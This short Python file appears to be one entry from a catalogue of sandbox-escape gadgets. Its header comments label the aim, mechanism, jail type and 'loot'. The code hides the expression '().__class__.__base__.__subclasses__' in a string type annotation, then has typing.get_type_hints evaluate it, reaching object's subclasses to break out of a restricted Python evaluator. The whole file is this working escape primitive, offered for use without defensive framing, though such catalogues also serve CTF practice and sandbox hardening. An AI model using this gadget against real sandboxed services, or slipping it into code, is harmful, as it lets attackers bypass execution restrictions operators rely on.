# aim: let typing evaluate a string annotation
# mechanism: typing.get_type_hints calls eval
# language: builtins
# reason: the library evaluates text unguarded
# jail: process
# plain: loot

import typing


def function(x: "().__class__.__base__.__subclasses__"):
    pass


loot(typing.get_type_hints(function)["x"])
